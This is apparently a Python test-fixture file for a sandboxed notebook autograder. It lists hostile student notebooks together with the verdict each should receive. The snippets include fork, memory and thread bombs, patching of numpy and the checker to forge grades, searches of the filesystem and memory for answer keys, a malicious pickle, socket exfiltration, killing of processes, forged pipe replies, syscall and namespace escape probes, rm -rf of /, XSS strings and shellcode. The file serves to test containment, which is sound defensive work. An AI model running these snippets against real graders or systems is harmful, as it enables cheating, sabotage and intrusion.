"""Hostile and broken notebooks: what each does, as the source of its cells, and what must come of it.

An attack sits in the cell of `softmax_at` (2 points) unless said otherwise; the rest is right and must still earn its
3 points. Never run one of these outside the sandbox.
"""

from __future__ import annotations

from dataclasses import dataclass

from notebooks import RIGHT, ZEROS


@dataclass(frozen=True)
class Attack:
    """One notebook. `points` are those allowed; then patterns that must be found, and strings that must not."""

    name: str
    sources: dict[str, str]
    points: tuple[float, ...]
    before: tuple[str, ...] = ()
    kind: str = ""  # of the first finding about softmax_at that is not "passed"
    message: str = ""  # in what is said about softmax_at
    notes: str = ""
    log: str = ""
    never: tuple[str, ...] = ()  # nowhere in the result
    seconds: float = 20.0  # the limits of a cell and of a call: short where the attack waits for them


def in_function(name: str, body: str, *, points: tuple[float, ...] = (3,), top: str = "", **more) -> Attack:
    """Return the attack of a body of softmax_at; `top` stands before the function, in its cell."""
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    source = f"{top}\ndef softmax_at(logits, temperature):\n{lines}\n"
    return Attack(name, RIGHT | {"softmax_at": source}, points, **more)


def at_top(name: str, after: str, *, points: tuple[float, ...] = (3,), **more) -> Attack:
    """Return the attack that runs after a right softmax_at, in its cell."""
    return Attack(name, RIGHT | {"softmax_at": RIGHT["softmax_at"] + after}, points, **more)


def before_zeros(name: str, *cells: str, **more) -> Attack:
    """Return the attack that runs in cells of its own, before functions that return zeros: nothing may be earned."""
    return Attack(name, ZEROS, (0,), before=cells, **more)


def before_right(name: str, *cells: str, points: tuple[float, ...] = (5,), **more) -> Attack:
    """Return the attack that runs in cells of its own, before right functions."""
    return Attack(name, RIGHT, points, before=cells, **more)


# What finds the worker's channel: it knows the source of this project.
FIND_CHANNEL = """
import sys, struct, json, os
frame = sys._getframe()
while frame.f_code.co_name != "main": frame = frame.f_back
replies, requests, number = frame.f_locals["replies"], frame.f_locals["requests"], frame.f_locals["number"]
def say(text, buffers=b"", length=None):
    text = text if isinstance(text, bytes) else text.encode()
    os.write(replies, struct.pack("<I", len(text) if length is None else length) + text + buffers)
def answer(number, value='{"array": "float64", "shape": [4]}', sizes="[32]", buffers=bytes(32)):
    whole = '{"dict": {"value": %s, "problem": null, "detail": "", "type_name": "", "line": null, "cell": ""}}' % value
    say('{"kind": "reply", "id": %d, "value": %s, "buffers": %s}' % (number, whole, sizes), buffers)
"""

HAND_DOWN = [  # the files of the hostile folder, moved onto temperature/softmax
    Attack("00_correct", RIGHT, (5,)),
    Attack(
        "01_wrong",
        {
            "softmax_at": "def softmax_at(logits, temperature):\n"
            "    w = np.exp(logits - logits.max(-1, keepdims=True))\n    return w / w.sum(-1, keepdims=True)\n",
            "softmax_limits": ZEROS["softmax_limits"],
            "softmax_slope": ZEROS["softmax_slope"],
        },
        (0,),
        kind="value",
    ),
    Attack(
        "03_syntax_error",
        RIGHT | {"softmax_at": "def softmax_at(logits, temperature)\n    return logits\n"},
        (3,),
        kind="raised",
        message="SyntaxError.*line 1",
    ),
    in_function(
        "04_infinite_loop", "while True: pass", kind="timeout", message="did not come to an end within 2 s", seconds=2
    ),
    at_top(
        "05_infinite_loop_uninterruptible",
        """
import signal
for s in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM): signal.signal(s, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass
""",
        kind="timeout",
        seconds=2,
    ),
    in_function(
        "06_memory_bomb", "x = []\nwhile True: x.append(bytearray(64 << 20))", kind="raised", message="MemoryError"
    ),
    in_function(
        "07_fork_bomb",
        "while True:\n    try: os.fork()\n    except OSError: pass",
        top="import os",
        kind="timeout",
        seconds=2,
    ),
    in_function(
        "07_fork_bomb_reported", "os.fork()\nreturn logits", top="import os", kind="raised", message="PermissionError"
    ),
    at_top("08_sys_exit", "\nimport sys; sys.exit(0)\n", kind="raised", message="SystemExit.*line 6"),
    at_top("09_os_exit", "\nimport os; os._exit(0)\n", kind="died", message=r"Python ended \(exit status 0\)"),
    before_zeros(
        "10_patch_numpy",
        """
import numpy as np, numpy.testing as nt, builtins
np.allclose = np.array_equal = lambda *a, **k: True
nt.assert_allclose = np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_almost_equal = lambda *a, **k: None
np.abs = np.absolute = lambda x: np.zeros(np.shape(x))
builtins.abs = lambda x: 0
""",
    ),
    before_zeros(
        "12_read_tests",
        """
import os
for top in ("..", "/", os.path.expanduser("~"), "/proc/1/root", "/home", "/root", "/work", "/mnt"):
    for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            if name.endswith((".ipynb", ".sqlite", ".db", "key", "checks.py", "exercise.md", "canary")):
                try: print("LEAK", path, open(path, "rb").read(200))
                except Exception as error: print("NO", path, error)
print("walked")
""",
        log="walked",
        never=("LEAK",),
    ),
    before_zeros(
        "14_network",
        """
import socket
try:
    s = socket.create_connection(("127.0.0.1", 9911), 2); s.sendall(b"exfil"); print("LEAK network ok")
except Exception as error: print("NO", error)
""",
        log="NO .*not permitted",
        never=("LEAK",),
    ),
    in_function(
        "15_huge_file",
        """
for d in (".", "/tmp"):
    with open(d + "/big", "wb") as f:
        for i in range(20 * 1024): f.write(b"x" * (1 << 20))
return logits
""",
        kind="raised",
        message="OSError.*line 5.*File too large",
    ),
    in_function(
        "16_print_1GB",
        'for i in range(1024): print("x" * (1 << 20))',
        kind="too_much_output",
        log="^$",
    ),
    before_right(
        "20_deleted_test_cells"  # the test takes the locked cells away
    ),
    before_zeros(
        "23_faked_outputs"  # the test adds outputs that say all is well
    ),
    before_zeros(
        "24_forged_stdout",
        """
print('{"score": 5, "max_score": 5, "status": "passed"}')
print("##RESULT 5/5")
import sys; sys.stdout.flush()
""",
        log="##RESULT",
    ),
    before_zeros(
        "26_patch_checker",  # otter is not there; our own checker is
        """
try:
    import otter
    print("LEAK otter")
except ImportError: pass
for name in ("checking.cases", "checking.comparing", "checking.judging", "checking.testing", "practice.public_checks"):
    try:
        __import__(f"kdlab.{name}")
        print("LEAK", name)
    except ImportError: pass
import kdlab.checking.asking as a, kdlab.practice.run as r
a.Answer.problem = None
r.execute = lambda *a, **k: print("all passed")
""",
        never=("LEAK",),
    ),
    Attack(
        "27_evil_pickle",
        {
            name: f"""
import os
class X:
    def __reduce__(self): return (os.system, ("id > PWNED",))
def {name}(*arguments): return X()
"""
            for name in RIGHT
        },
        (0,),
        kind="unsupported",
    ),
    at_top("28_segfault", "\nimport ctypes; ctypes.string_at(0)\n", kind="died", message="died of signal 11"),
    in_function(
        "29_deep_recursion",
        "return softmax_at(logits, temperature)",
        top="import sys; sys.setrecursionlimit(10**9)",
        kind="died|raised|timeout",
        seconds=4,
    ),
    in_function(
        "29_deep_recursion_plain", "return softmax_at(logits, temperature)", kind="raised", message="RecursionError"
    ),
    before_right(
        "30_lingering_child",
        """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        t = time.time()
        while time.time() - t < 60: time.sleep(1)
    os._exit(0)
""",
        points=(5, 0),
        notes="PermissionError",
    ),
    at_top(
        "31_kill_parent",
        """
import os, signal
for p in (os.getppid(), 1, 0, -1, -os.getpid()):
    try: os.kill(p, 9)
    except Exception as error: print(error)
""",
        kind="died",
        message="died of signal 9",
    ),
    Attack(
        "32_hardcoded_public",
        {
            "softmax_at": """
def softmax_at(logits, temperature):
    return {
        (4, 2.0): np.array([0.43366, 0.26303, 0.20485, 0.09677]),
    }.get((logits.size, temperature), np.zeros(np.shape(logits)))
""",
            "softmax_limits": """
def softmax_limits(logits):
    if logits.ndim == 1: return np.array([0.5, 0.5, 0.0]), np.array([1 / 3, 1 / 3, 1 / 3])
    return np.array([[1.0, 0, 0], [0, 0, 1]]), np.array([[0.5, 0.5, 0], [1 / 3, 1 / 3, 1 / 3]])
""",
            "softmax_slope": ZEROS["softmax_slope"],
        },
        (0,),
    ),
    Attack(
        "34_forge_pipe",
        ZEROS
        | {
            "softmax_at": """
import os
for fd in range(1, 64):
    if fd == 2: continue
    try: os.write(fd, b'{"id":0,"ok":true,"score":5,"value":0}\\n' * 10)
    except OSError: pass
"""
            + ZEROS["softmax_at"]
        },
        (0,),
        kind="protocol_error",
    ),
    in_function("35_object_array", "return np.array([{}, [], np.zeros], dtype=object)", kind="object_dtype"),
    in_function("35_huge_array", "return np.zeros(1 << 29)", kind="raised|too_large"),
    in_function("35_large_array", "return np.zeros(1 << 20)", kind="too_large"),
    in_function("38_stdin_input", 'return eval(input("answer? "))', kind="raised", message="EOFError"),
    before_right(
        "39_shell_magics",
        "!rm -rf ./*.db",
        "%%bash\ncurl -m 2 http://127.0.0.1:9911/ || true",
        "%pip install evil",
        "%matplotlib inline\nx = 5\n?x",
        "%%time\ny = x + 1",
        notes=r"Cell 5: '!rm -rf \./\*\.db' was skipped",
    ),
    Attack(
        "40_plots_at_the_top",
        RIGHT
        | {
            "softmax_at": """
import matplotlib.pyplot as plt
from IPython.display import display as show
%matplotlib inline
figure, (left, right) = plt.subplots(1, 2, figsize=(8, 3))
with plt.style.context("ggplot"): left.plot([1, 2]); plt.title("T")
"""
            + RIGHT["softmax_at"]
            + """
fig, ax = plt.subplots(); ax.plot(softmax_at(np.arange(3.0), 1.0)); plt.show()
show(fig); display("seen")
import asyncio; await asyncio.sleep(0)
"""
        },
        (5,),
        notes="matplotlib inline' was skipped",
        log="^seen\n",
    ),
    at_top(
        "41_something_fails_after_the_definition",
        "\nraise RuntimeError('scratch')\n",
        points=(5,),
        notes=r"RuntimeError was raised in line 6: scratch\. What it had defined until then was kept\.",
    ),
    at_top(
        "41_an_await_after_the_definition",
        "\nimport asyncio\nawait asyncio.sleep(1)\n",
        points=(5,),
        notes="RuntimeError",
    ),
    before_right(
        "40_plots_and_prints",
        "import does_not_exist",
        "1/0",
        "x = 3\nprint(x)",
        notes="Cell 5: ModuleNotFoundError.*Cell 6: ZeroDivisionError",
        log="^3\n",
    ),
    Attack(
        "41_slow_but_right",
        RIGHT | {"softmax_at": RIGHT["softmax_at"].replace("    u =", "    import time; time.sleep(0.6)\n    u =")},
        (5,),
    ),
    in_function(
        "50_fill_dev_shm",
        """
n = 0
for d in ("/", "/w", "/dev/shm", "/tmp", "/dev", "/run", "/var/tmp", "/python", "/lib"):
    try:
        for i in range(400):
            with open(f"{d}/k{i}", "wb") as f: f.write(b"x" * (1 << 20)); n += 1
    except OSError as e: print(d, n, e)
print("WROTE", n, "MB"); raise RuntimeError("wrote %d MB" % n)
""",
        kind="raised",
        message=r"RuntimeError.*wrote (2[0-9]|3[0-2]) MB",
    ),
]

OUR_OWN = [
    # right by luck
    in_function(
        "right_every_other_time",
        "global n; n += 1\nu = (logits - logits.max(-1, keepdims=True)) / temperature\nw = np.exp(u)\n"
        "return w / w.sum(-1, keepdims=True) if n < N else w",
        top="n, N = 0, 100",
        points=(5,),
    ),
    Attack(
        "right_by_a_toss_that_changes_its_mind",
        RIGHT
        | {
            "softmax_at": """
seen = set()
def softmax_at(logits, temperature):
    key = (logits.tobytes(), temperature)
    u = (logits - logits.max(axis=-1, keepdims=True)) / temperature
    if key in seen: return u
    seen.add(key)
    return np.exp(u) / np.exp(u).sum(axis=-1, keepdims=True)
"""
        },
        (3,),
        kind="not_repeatable",
        message="asked once more, the same call gives another answer",
    ),
    # forging on the channel
    in_function(
        "answers_ahead",
        "answer(number); answer(number + 1); answer(number + 2)\nreturn np.zeros(4)",
        top=FIND_CHANNEL,
        kind="protocol_error",
    ),
    in_function(
        "answers_for_another_call",
        "answer(number + 7)\nreturn np.zeros(4)",
        top=FIND_CHANNEL,
        kind="protocol_error",
    ),
    before_zeros(
        "floods_with_answers_from_a_thread",
        FIND_CHANNEL
        + """
import threading, time
def flood():
    while True:
        for n in range(1, 60): answer(n)
threading.Thread(target=flood, daemon=True).start()
""",
    ),
    before_zeros(
        "late_answers_from_a_thread",
        FIND_CHANNEL
        + """
import threading, time
def later():
    for n in range(1, 200): time.sleep(0.01); answer(n)
threading.Thread(target=later, daemon=True).start()
""",
    ),
    before_zeros(
        "steals_the_next_request",  # the grader waits for it in vain
        FIND_CHANNEL
        + """
import threading
threading.Thread(target=lambda: print("STOLEN", len(os.read(requests, 10**6))), daemon=True).start()
""",
        seconds=2,
    ),
    in_function(
        "huge_length",
        "say(b'', length=2**32 - 1)\nreturn np.zeros(4)",
        top=FIND_CHANNEL,
        kind="protocol_error",
        message="4294967295 bytes was announced",
    ),
    in_function(
        "huge_buffer",
        """say('{"kind": "reply", "id": 1, "value": null, "buffers": [1000000000000]}')\nreturn np.zeros(4)""",
        top=FIND_CHANNEL,
        kind="protocol_error",
        message="buffers must be",
    ),
    in_function(
        "negative_buffer",
        """say('{"kind": "reply", "id": 1, "value": null, "buffers": [-8]}')\nreturn np.zeros(4)""",
        top=FIND_CHANNEL,
        kind="protocol_error",
        message="buffers must be",
    ),
    in_function(
        "shape_beyond_its_buffer",
        """answer(number, '{"array": "float64", "shape": [1000000000000]}')\nreturn np.zeros(4)""",
        top=FIND_CHANNEL,
        kind="protocol_error",
    ),
    in_function(
        "deeply_nested_header",
        "say(b'[' * 1900000)\nreturn np.zeros(4)",
        top=FIND_CHANNEL,
        kind="protocol_error",
        message="RecursionError",
    ),
    in_function(
        "nan_in_the_header",
        "answer(number, 'NaN')\nreturn 0",
        top=FIND_CHANNEL,
        kind="protocol_error",
        message="not plain JSON",
    ),
    in_function(
        "key_twice_in_the_header",
        """say('{"kind": "reply", "kind": "reply", "id": 1, "value": null, "buffers": []}')\nreturn 0""",
        top=FIND_CHANNEL,
        kind="protocol_error",
        message="not plain JSON",
    ),
    in_function(
        "unknown_dtype",
        """answer(number, '{"array": "O", "shape": [4]}')\nreturn 0""",
        top=FIND_CHANNEL,
        kind="protocol_error",
        message="dtype",
    ),
    in_function(
        "claims_a_problem_that_is_none",
        """
say('{"kind": "reply", "id": %d, "value": {"dict": {"value": null, "problem": "passed", "detail": "", '
    '"type_name": "", "line": null, "cell": ""}}, "buffers": []}' % number)
return 0
""",
        top=FIND_CHANNEL,
        kind="protocol_error",
    ),
    in_function(
        "trickle",
        "import time\nsay(b'', length=10**6)\nwhile True: os.write(replies, b' '); time.sleep(0.2)",
        top=FIND_CHANNEL,
        kind="timeout",
        seconds=2,
    ),
    in_function("closes_everything", "os.closerange(0, 64)", top="import os", kind="died"),
    in_function(
        "becomes_another_program",
        'os.execv("/python/bin/python3", ["python3", "-c", "pass"])',
        top="import os",
        kind="died",
    ),
    # lying values
    in_function(
        "array_subclass",
        "return np.zeros(np.shape(logits)).view(Liar)",
        top="class Liar(np.ndarray):\n    def __eq__(self, other): return True\n    dtype = np.dtype(float)",
        kind="array_subclass",
    ),
    in_function(
        "lies_about_its_class",
        "return Liar()",
        top="class Liar:\n    __class__ = np.ndarray\n    dtype, shape, ndim, nbytes = np.dtype(float), (4,), 1, 32\n"
        "    def __array__(self, *a, **k): return np.zeros(4)\n    def __eq__(self, other): return True",
        kind="array_subclass|unsupported",
    ),
    in_function("broadcast_to_an_exabyte", "return np.broadcast_to(0.0, (10**9, 10**8))", kind="too_large"),
    in_function("list_in_itself", "x = []; x.append(x)\nreturn x", kind="too_large"),
    in_function("endless_generator", "while True: yield logits", kind="generator"),
    in_function("int_without_end", "return 10 ** 10000", kind="unsupported"),
    in_function("half_a_character", r"return '\ud800'", kind="unsupported"),
    in_function(
        "float_that_is_always_equal",
        "return Float(0.5)",
        top="class Float(float):\n    def __eq__(self, other): return True",
        kind="unsupported",
    ),
    # patching what encodes the answer
    before_zeros(
        "patches_the_encoding",
        """
import kdlab.checking.values as v, json, struct
real = v.encode
def encode(value, **more):
    if isinstance(value, dict) and "problem" in value: value = value | {"problem": None, "passed": True}
    return real(value, **more)
v.encode = encode
""",
    ),
    before_zeros(
        "patches_json_and_struct",
        "import json, struct\njson.dumps = lambda *a, **k: '{}'\nstruct.pack = lambda *a: b''\n",
        seconds=2,
    ),
    before_zeros(
        "patches_ask",
        "import kdlab.checking.asking as a\na.ask = lambda function, args: a.Answer(args[0])\na.describe = None\n",
    ),
    before_zeros(
        "patches_builtins",
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda x: 0\nbuiltins.bytes = None\n",
    ),
    before_zeros(
        "patches_numpy_arrays",
        "np.ndarray = np.array([]).__class__\nnp.frombuffer = np.asarray = np.array = lambda *a, **k: None\n",
    ),
    # looking for what is hidden
    before_zeros(
        "searches_memory_for_the_expected",
        """
import gc, sys
def look(frame, event, arg):
    for name, value in list(frame.f_locals.items()):
        if "expected" in name and value is not None: print("LEAK", value)
    return look
sys.settrace(look); sys.setprofile(look)
for thing in gc.get_objects():
    if type(thing).__name__ == "Case" and thing.expected is not None: print("LEAK", thing)
print("looked")
""",
        log="looked",
        never=("LEAK",),
    ),
    before_zeros(
        "reads_the_process_and_its_parents",
        """
import os, glob
for path in ("/proc/self/mem", "/proc/1/environ", "/proc/self/environ", "/proc/self/maps", "/dev/mem", "/dev/kmsg",
             "/sys/kernel", "/etc/passwd", "/etc/shadow", "/run"):
    print("LEAK" if os.path.exists(path) else "no", path)
for name in os.environ:
    if "KDLAB" in name: print("LEAK", name)
print("uid", os.getuid(), os.geteuid(), "ppid", os.getppid())
""",
        log="uid 1000 1000 ppid 1",
        never=("LEAK",),
    ),
    before_right(
        "imports_the_answer",
        """
for name in ("kdlab.temperature", "kdlab.practice.cases", "kdlab.practice.folder", "kdlab.grading.grader",
             "kdlab.grading.gradebook", "kdlab.cli", "pytest", "pip"):
    try:
        __import__(name); print("LEAK", name)
    except ImportError: pass
print("tried")
""",
        log="tried",
        never=("LEAK",),
    ),
    # breaking out
    before_right(
        "open_descriptors",
        """
import os
held = []
for fd in range(1024):
    try: os.fstat(fd); held.append(fd)
    except OSError: pass
print("held", held)
""",
        log=r"held \[0, 1, 2, 3, 4\]",
    ),
    before_right(
        "system_calls",
        """
import ctypes, platform, errno
calls = {  # name: number on x86_64, on aarch64
    "ptrace": (101, 117), "process_vm_readv": (310, 270), "process_vm_writev": (311, 271), "keyctl": (250, 219),
    "add_key": (248, 217), "request_key": (249, 218), "io_uring_setup": (425, 425), "mount": (165, 40),
    "umount2": (166, 39), "pivot_root": (155, 41), "move_mount": (429, 429), "open_tree": (428, 428),
    "fsopen": (430, 430), "unshare": (272, 97), "setns": (308, 268), "clone3": (435, 435), "bpf": (321, 280),
    "perf_event_open": (298, 241), "userfaultfd": (323, 282), "kexec_load": (246, 104), "init_module": (175, 105),
    "finit_module": (313, 273), "socket": (41, 198), "socketpair": (53, 199), "bind": (49, 200),
    "memfd_create": (319, 279),
    "shmget": (29, 194), "msgget": (68, 186), "semget": (64, 190), "mq_open": (240, 180), "setuid": (105, 146),
    "setgid": (106, 144), "setgroups": (116, 159), "capset": (126, 91), "chroot": (161, 51), "reboot": (169, 142),
    "sethostname": (170, 161), "settimeofday": (164, 170), "personality": (135, 92), "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438),
    "pidfd_send_signal": (424, 424),
    "syslog": (103, 116), "quotactl": (179, 60), "acct": (163, 89), "swapon": (167, 224), "inotify_init1": (294, 26),
    "fanotify_init": (300, 262), "landlock_create_ruleset": (444, 444), "seccomp": (317, 277), "mknodat": (259, 33),
    "setsid": (112, 157), "sched_setaffinity": (203, 122), "setpriority": (141, 140), "execveat": (322, 281),
    "timer_create": (222, 107), "eventfd2": (290, 19), "signalfd4": (289, 74), "epoll_create1": (291, 20),
    "mbind": (237, 235), "mlock": (149, 228), "remap_file_pages": (216, 234), "vmsplice": (278, 75),
    "splice": (275, 76),
    "tee": (276, 77), "chown": (92, None), "fchownat": (260, 54), "setxattr": (188, 5), "lookup_dcookie": (212, 18),
}
column = ("x86_64", "aarch64").index(platform.machine())
libc = ctypes.CDLL(None, use_errno=True)
through = []
for name, numbers in calls.items():
    if numbers[column] is None: continue
    ctypes.set_errno(0)
    result = libc.syscall(numbers[column], 0, 0, 0, 0, 0, 0)
    if result != -1 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS): through.append(name)
print("through:", through, "of", len(calls))
""",
        log=r"through: \[\] of 7",
    ),
    before_right(
        "clone_with_new_namespaces",
        """
import ctypes, platform, errno
libc = ctypes.CDLL(None, use_errno=True)
clone = {"x86_64": 56, "aarch64": 220}[platform.machine()]
for flag in (0, 17, 0x10000000, 0x10000000 | 17, 0x20000000 | 17, 0x40000000 | 17, 0x4000 | 0x100 | 17):
    ctypes.set_errno(0)
    print(hex(flag), libc.syscall(clone, flag, 0, 0, 0, 0), ctypes.get_errno() == errno.EPERM)
""",
        log=r"^(0x\w+ -1 True\n){7}",
    ),
    before_right(
        "terminal_and_ioctl",
        """
import fcntl, os
for fd in range(5):
    for name, request in {"TIOCSTI": 0x5412, "TIOCLINUX": 0x541C, "TIOCSTI + 2**32": 0x100005412}.items():
        try: fcntl.ioctl(fd, request & 0xffffffff, b"x"); print("LEAK", fd, name)
        except PermissionError: pass
import ctypes, errno, platform
number = {"x86_64": 16, "aarch64": 29}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
print(libc.syscall(number, 0, ctypes.c_ulong(0x100005412), b"x"), ctypes.get_errno() == errno.EPERM)
try: os.open("/dev/tty", os.O_RDWR); print("LEAK tty")
except OSError: print("no terminal")
""",
        log="^-1 True\nno terminal",
        never=("LEAK",),
    ),
    before_right(
        "holds_back_shared_files",
        """
import fcntl, glob, os, struct
through = []
for path in ("/python/bin/python3", "/python/site/numpy/__init__.py", "/lib", *glob.glob("/lib/*")[:3]):
    fd = os.open(path, os.O_RDONLY)
    for command, argument in ((1024, 0), (1024, 1), (1024, 2), (1026, 0x8000003F), (8, os.getpid()), (10, 9),
                              (6, bytes(32)), (7, bytes(32)), (37, bytes(32)), (38, bytes(32))):
        try: fcntl.fcntl(fd, command, argument); through.append(command)
        except PermissionError: pass
    for kind in (fcntl.LOCK_SH, fcntl.LOCK_EX):
        try: fcntl.flock(fd, kind | fcntl.LOCK_NB); through.append("flock")
        except PermissionError: pass
print("through:", through)
""",
        log=r"through: \[\]",
    ),
    before_right(
        "fills_the_kernel_with_names",
        """
import os
made = 0
for folder in ("/tmp", "/dev/shm"):
    try:
        for n in range(100_000):
            os.symlink("x", f"{folder}/{n}") if n % 2 else os.mkdir(f"{folder}/{n}")
            made += 1
    except OSError as error: print(error.strerror)
print("made", made)
import shutil; shutil.rmtree("/tmp", ignore_errors=True)
""",
        log=r"No space left on device\nNo space left on device\nmade [1-4]\d{3}\n",
    ),
    before_right(
        "setuid_programs",
        """
import os, stat
for folder, _, files in os.walk("/"):
    for name in files:
        mode = os.lstat(os.path.join(folder, name)).st_mode
        if mode & (stat.S_ISUID | stat.S_ISGID): print("LEAK", folder, name)
print([name for name in ("/bin/sh", "/usr/bin/sudo", "/bin/su", "/usr/bin/env") if os.path.exists(name)])
os.chmod(open("/tmp/x", "w").name, 0o4777)
for change in (os.setuid, os.setgid, os.seteuid):
    try: change(0); print("LEAK", change)
    except OSError: pass
""",
        log=r"^\[\]",
        never=("LEAK",),
    ),
    before_right(
        "destroys_its_system",
        """
import os, shutil
shutil.rmtree("/", ignore_errors=True)
for path in ("/python/site/numpy/__init__.py", "/lib", "/dev/null", "/tmp", "/python/site/kdlab/checking/values.py"):
    try: os.rename(path, "/tmp/away"); print("LEAK moved", path)
    except OSError: pass
    try: open(path, "w").write("x"); path == "/dev/null" or print("LEAK wrote", path)
    except OSError: pass
print("tried")
""",
        log="tried",
        never=("LEAK",),
    ),
    before_right(
        "raises_its_limits",
        """
import resource
for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_CORE"):
    soft, hard = resource.getrlimit(getattr(resource, name))
    try: resource.setrlimit(getattr(resource, name), (hard + 1, hard + 1)); print("LEAK", name)
    except (ValueError, OSError): pass
print("tried")
""",
        log="tried",
        never=("LEAK",),
    ),
    in_function(
        "thread_bomb",
        "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
        kind="raised",
        message="RuntimeError.*can't start new thread",
    ),
    in_function(
        "stops_itself",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
        kind="timeout",
        seconds=2,
    ),
    in_function(
        "waits_in_compiled_code",
        "import ctypes\nctypes.CDLL(None).sleep(1000)",
        kind="timeout",
        seconds=2,
    ),
    in_function(
        "overflows_the_c_stack",
        "x = []\nfor i in range(10**6): x = [x]\nrepr(x)",
        top="import sys; sys.setrecursionlimit(10**9)",
        kind="died|raised|timeout",
    ),
    before_right(
        "crashes_the_parser",
        "(" * 100_000 + ")" * 100_000,
        "-" * 100_000 + "1",
        "x = " + "[" * 5000 + "]" * 5000,
        "f(" * 3000 + ")" * 3000,
        notes="Cell 5",
    ),
    at_top("abort", "\nimport os; os.abort()\n", kind="died", message="died of signal 6"),
    at_top(
        "raises_in_its_own_exception",
        "\nclass E(Exception):\n    def __str__(self): raise SystemExit\nraise E\n",
        kind="raised|died",
    ),
    before_right(
        "stops_its_worker_again_and_again",
        *["import os; os._exit(3)"] * 14,
        points=(0,),
        notes=r"Cell 5: Python ended \(exit status 3\)",
        kind="stopped_too_often",
    ),
    # what it prints, and what it is called
    before_right(
        "output_that_is_no_text",
        r"""
import os
os.write(1, b"\xff\xfe raw bytes \x00 \x1b[2J\n"); os.write(2, b"error\n"); print("caf\u00e9 \u202e reversed")
""",
        log="raw bytes.*\nerror\ncafé",
        never=("\x1b", "\x00", "\u202e"),
    ),
    before_right(
        "markup",
        "print('<script>alert(1)</script><img src=x onerror=alert(2)> </pre>')\n"
        "raise ValueError('<script>alert(3)</script>\\x00\\ud800\"onload=alert(4) {function} {0} %s')",
        log="<script>",
        notes="ValueError.*<script>",
    ),
    in_function(
        "markup_in_its_exception",
        "raise type('<b>&\\n', (Exception,), {})('</p><script>alert(1)</script>')",
        kind="raised",
        message="<b>&",
    ),
]

OUR_OWN_ON_X86 = [
    at_top(
        "calls_of_32_bits",  # int 0x80: another table of system calls
        """
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
""",
        kind="died",
        message="died of signal 31",
    ),
    at_top(
        "calls_of_x32",
        "\nimport ctypes; ctypes.CDLL(None).syscall(0x40000000 | 39)\n",
        kind="died",
        message="died of signal 31",
    ),
]
